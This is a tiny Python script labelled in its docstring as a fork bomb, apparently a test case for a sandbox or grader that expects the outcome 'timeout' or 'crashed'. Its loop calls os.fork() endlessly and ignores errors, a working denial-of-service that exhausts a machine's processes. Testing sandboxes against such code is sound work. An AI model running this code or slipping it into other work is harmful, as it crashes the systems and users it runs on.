"""A fork bomb.
deserves = ["timeout", "crashed"]
"""
import os
while True:
    try: os.fork()
    except OSError: pass
